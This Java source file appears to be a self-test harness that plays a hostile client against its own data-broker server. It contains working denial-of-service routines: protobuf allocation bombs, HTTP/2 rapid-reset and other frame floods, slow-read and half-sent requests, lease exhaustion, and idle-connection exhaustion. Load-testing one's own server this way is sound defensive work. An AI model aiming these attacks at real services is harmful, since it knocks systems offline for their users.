package io.databroker.server.attack;

import com.google.protobuf.Any;
import com.google.protobuf.ByteString;
import com.google.protobuf.Duration;
import io.databroker.server.proto.AcquireLeaseRequest;
import io.databroker.server.proto.GetRequest;
import io.databroker.server.proto.PutRequest;
import io.databroker.server.proto.QueryRequest;
import io.databroker.server.proto.Record;
import io.databroker.server.proto.SyncRequest;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.util.ArrayList;
import java.util.List;

/** Attacks of a hostile client. Each ends by itself or when it is closed. */
final class Attacks {
  private Attacks() {}

  /** Kind of attack. */
  interface Attack {
    /**
     * Attacks until the time is over.
     *
     * @param until by {@link System#nanoTime}
     */
    void run(int port, long until) throws IOException;
  }

  /** Connections that are closed together. */
  static final class Open implements AutoCloseable {
    private final List<RawClient> clients = new ArrayList<>();

    RawClient add(RawClient client) {
      clients.add(client);
      return client;
    }

    List<RawClient> all() {
      return clients;
    }

    @Override
    public void close() {
      clients.forEach(RawClient::close);
    }
  }

  static final String LARGE = "large";

  static boolean before(long until) {
    return System.nanoTime() - until < 0;
  }

  /** A field of records or the like, empty, that many times. */
  static byte[] repeated(int field, int times) {
    byte[] bytes = new byte[2 * times];
    for (int i = 0; i < times; i++) {
      bytes[2 * i] = (byte) (field << 3 | 2);
    }
    return bytes;
  }

  static byte[] nested(int field, byte[] content) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.write(field << 3 | 2);
    for (int rest = content.length; ; rest >>>= 7) {
      if (rest < 0x80) {
        out.write(rest);
        break;
      }
      out.write((rest & 0x7f) | 0x80);
    }
    out.writeBytes(content);
    return out.toByteArray();
  }

  /** V1: few bytes on the wire become many objects in the heap. */
  static Attack bomb(String method, byte[] request, boolean gzipped) {
    byte[] message = RawClient.message(request, gzipped);
    return (port, until) -> {
      while (before(until)) {
        try (RawClient client = RawClient.open(port, 1 << 20)) {
          for (int i = 0; i < 3; i++) {
            client.data(client.begin(method, gzipped), message, true);
          }
          client.closedWithin(200);
        }
      }
    };
  }

  static byte[] filterOfMany(int values) {
    byte[] list = nested(6, repeated(1, values)); // Value.list_value
    byte[] entry = concat(nested(1, new byte[] {'a'}), nested(2, list));
    return nested(5, nested(1, entry)); // QueryRequest.filter
  }

  static byte[] optionsOfMany(int fields) {
    return concat(nested(1, new byte[] {'t'}), nested(2, repeated(2, fields)));
  }

  static byte[] unknownFields(int fields) {
    return repeated(15, fields);
  }

  /** A record whose payload is a list of many empty values, and the search for text in it. */
  static PutRequest payloadOfMany(int values) {
    Any data =
        Any.newBuilder()
            .setTypeUrl("type.googleapis.com/google.protobuf.ListValue")
            .setValue(ByteString.copyFrom(repeated(1, values)))
            .build();
    return PutRequest.newBuilder()
        .addRecords(Record.newBuilder().setType("many").setId("1").setData(data))
        .build();
  }

  static byte[] concat(byte[] first, byte[] second) {
    return ByteBuffer.allocate(first.length + second.length).put(first).put(second).array();
  }

  /** V2: gets of a large record on a connection that reads nothing. */
  static void readNothing(int port, long until) throws IOException {
    byte[] request = GetRequest.newBuilder().setType(LARGE).setId("1").build().toByteArray();
    try (Open open = new Open()) {
      for (int c = 0; c < 3; c++) {
        RawClient client = open.add(RawClient.open(port, 0));
        for (int i = 0; i < 1_000 && before(until); i++) {
          client.call("Get", request, false);
          client.drain();
        }
      }
      stay(open.all(), until);
    }
  }

  /** V3: long queries against long texts. */
  static void search(int port, long until) throws IOException {
    byte[] request =
        QueryRequest.newBuilder()
            .setQuery("a".repeat(4_000) + "b")
            .setLimit(10)
            .build()
            .toByteArray();
    try (Open open = new Open()) {
      for (int c = 0; c < 4; c++) {
        var unused = open.add(RawClient.open(port, 1 << 20));
      }
      while (before(until)) {
        for (RawClient client : open.all()) {
          client.call("Query", request, false);
          client.drain();
        }
        pause();
      }
    } catch (IOException e) {
      // cut off
    }
  }

  /** V4: endless frames; the sender chooses their kind. */
  static Attack flood(Flood flood) {
    return (port, until) -> {
      while (before(until)) {
        try (RawClient client = RawClient.open(port, 1 << 20)) {
          while (before(until)) {
            for (int i = 0; i < 100; i++) {
              flood.send(client);
            }
            client.drain();
          }
        } catch (IOException e) {
          // cut off: it reconnects
        }
      }
    };
  }

  /** Sends the frames of a flood. */
  interface Flood {
    void send(RawClient client) throws IOException;
  }

  static void rapidReset(RawClient client) throws IOException {
    int stream = client.begin("Get", false);
    client.frame(RawClient.RST_STREAM, 0, stream, RawClient.number(8));
  }

  static void madeYouReset(RawClient client) throws IOException {
    int stream = client.begin("Get", false);
    client.frame(RawClient.WINDOW_UPDATE, 0, stream, RawClient.number(0));
  }

  static void ping(RawClient client) throws IOException {
    client.frame(RawClient.PING, 0, 0, new byte[8]);
  }

  static void settings(RawClient client) throws IOException {
    client.frame(RawClient.SETTINGS, 0, 0, RawClient.setting(4, 1 << 20));
  }

  /** Empty DATA frames on one stream that stays open. */
  static Attack emptyData() {
    return (port, until) -> {
      while (before(until)) {
        try (RawClient client = RawClient.open(port, 1 << 20)) {
          int stream = client.begin("Put", false);
          while (before(until)) {
            for (int i = 0; i < 100; i++) {
              client.frame(RawClient.DATA, 0, stream, new byte[0]);
            }
            client.drain();
          }
        } catch (IOException e) {
          // cut off: it reconnects
        }
      }
    };
  }

  static void priority(RawClient client) throws IOException {
    client.frame(RawClient.PRIORITY, 0, 1, new byte[5]);
  }

  /** V5: streams of all changes on connections that read nothing. */
  static Attack watch(long serverVersion, int connections, int streams) {
    byte[] request = SyncRequest.newBuilder().setServerVersion(serverVersion).build().toByteArray();
    return (port, until) -> {
      try (Open open = new Open()) {
        for (int c = 0; c < connections && before(until); c++) {
          RawClient client = open.add(RawClient.open(port, 65_535));
          try {
            for (int i = 0; i < streams && before(until); i++) {
              client.call("Sync", request, false);
            }
          } catch (IOException e) {
            // cut off
          }
        }
        stay(List.of(), until);
      }
    };
  }

  /** V5: requests that are never finished. */
  static void halfSent(int port, long until) throws IOException {
    byte[] half = ByteBuffer.allocate(1 << 20).put((byte) 0).putInt(2 << 20).array();
    try (Open open = new Open()) {
      for (int c = 0; c < 10 && before(until); c++) {
        RawClient client = open.add(RawClient.open(port, 1 << 20));
        try {
          for (int i = 0; i < 20 && before(until); i++) {
            client.data(client.begin("Put", false), half, false);
            client.drain();
          }
        } catch (IOException e) {
          // cut off
        }
      }
      stay(open.all(), until);
    }
  }

  /** V6: endlessly many leases. */
  static void leases(int port, long until) throws IOException {
    try (RawClient client = RawClient.open(port, 1 << 20)) {
      for (int i = 0; before(until); i++) {
        byte[] request =
            AcquireLeaseRequest.newBuilder()
                .setName("x".repeat(900) + i)
                .setDuration(Duration.newBuilder().setSeconds(80_000))
                .build()
                .toByteArray();
        client.call("AcquireLease", request, false);
        client.drain();
      }
    } catch (IOException e) {
      // cut off
    }
  }

  /** V7: connections that send nothing, or half a preface. */
  static Attack silence(int connections) {
    return (port, until) -> {
      try (Open open = new Open()) {
        for (int i = 0; i < connections && before(until); i++) {
          RawClient client = open.add(new RawClient(port));
          if (i % 2 == 0) {
            try {
              client.raw(new byte[] {'P', 'R', 'I', ' '});
            } catch (IOException e) {
              // closed in favour of a later connection
            }
          }
        }
        stay(List.of(), until);
      }
    };
  }

  static void stay(List<RawClient> reading, long until) {
    while (before(until)) {
      for (RawClient client : reading) {
        try {
          client.drain();
        } catch (IOException e) {
          // cut off
        }
      }
      pause();
    }
  }

  static void pause() {
    java.util.concurrent.locks.LockSupport.parkNanos(10_000_000);
  }
}
